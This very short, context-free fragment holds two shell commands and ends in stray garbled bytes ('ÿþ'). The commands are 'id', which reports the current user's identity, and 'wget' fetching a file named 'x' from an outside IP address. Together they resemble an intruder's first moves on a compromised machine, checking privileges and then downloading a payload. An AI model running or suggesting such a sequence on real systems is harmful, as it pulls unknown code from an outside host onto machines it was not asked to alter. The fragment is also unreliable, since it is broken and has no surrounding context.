id

wget http://203.0.113.7/x
ÿþ
